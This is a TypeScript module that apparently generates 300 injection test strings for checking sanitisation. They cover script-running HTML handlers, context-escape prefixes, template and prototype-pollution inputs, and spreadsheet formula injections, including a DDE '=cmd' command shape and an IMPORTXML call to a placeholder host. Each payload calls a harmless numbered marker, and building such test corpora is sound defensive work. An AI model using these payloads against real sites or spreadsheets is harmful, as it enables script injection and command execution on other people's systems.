/**
 * 300 texts that would run a script, break a page or become a formula wherever a text is taken for something else. Each
 * one calls `hit` with its number, so that an execution names its payload.
 */
const calls = [
  (n: number) => `hit(${n})`,
  (n: number) => `window['hit'](${n})`,
  (n: number) => `top.hit\`${n}\``,
  (n: number) => `(0,hit)(${n})`,
  (n: number) => `alert(${n})`,
]

/** A handler or script in an element; `%` is where the call goes. */
const elements = [
  '<script>%</script>',
  '<ScRiPt >%</sCrIpT>',
  '<img src=x onerror=%>',
  '<img src=x onerror="%">',
  '<svg onload=%>',
  '<svg/onload=%//',
  '<body onload=%>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<iframe src="javascript:parent.%"></iframe>',
  '<a href="javascript:%" autofocus onfocus=%>链接</a>',
  '<input autofocus onfocus=%>',
  '<details open ontoggle=%><summary>…</summary></details>',
  '<video><source onerror=%></video>',
  '<math><mtext><style><img src=x onerror=%></style></mtext></math>',
  '<object data="javascript:%"></object>',
  '<form><button formaction="javascript:%">提交</button></form>',
  '<style>@import "javascript:%";</style>',
  '<div style="background:url(javascript:%)">块</div>',
  '<base href="javascript:%//">',
  '<meta http-equiv="refresh" content="0;url=javascript:%">',
]

/** How one gets out of where the text was put. */
const escapes = [
  '%',
  '">%',
  "'>%",
  '</title></textarea></script>%',
  '<!--%-->',
  ']]>%',
  '&lt;%&gt;',
  '\\u003c%',
  '%0a%',
]

/** For code, templates, addresses and spreadsheets rather than elements. */
const others = [
  'javascript:%',
  'JaVaScRiPt:%',
  ' javascript:%',
  'data:text/html,<script>%</script>',
  '{{constructor.constructor("%")()}}',
  '$' + '{%}',
  '#{%}',
  '<%= % %>',
  "';%;//",
  '";%;//',
  '`;%;//',
  '__proto__',
  'constructor',
  '=HYPERLINK("javascript:%","x")',
  '=cmd|"/c %"!A1',
  '+1+%',
  '-1+%',
  '@SUM(%)',
  '=1+1',
  '=IMPORTXML("http://example.invalid/?%","//a")',
  '＝1+1',
  '\u202e<script>%</script>\u202c',
  '\u200b<script>%</script>',
  '\ufeff=1+1',
]

export const payloads: string[] = (() => {
  const texts = new Set<string>()
  const add = (shape: string, i: number) => {
    const call = calls[i % calls.length]!(texts.size)
    texts.add(shape.replaceAll('%', () => call))
  }
  for (const [i, other] of others.entries()) add(other, i)
  for (const [e, way] of escapes.entries())
    for (const [i, element] of elements.entries())
      add(
        way.replaceAll('%', () => element),
        e + i,
      )
  for (let i = 0; texts.size < 300; i++) {
    const inner = elements[(i * 7) % elements.length]!
    const around = others[(i * 5) % others.length]!
    add(i % 2 === 0 ? `${inner}${around}` : `${around} ${inner.toUpperCase()}`, i)
  }
  return [...texts].slice(0, 300)
})()
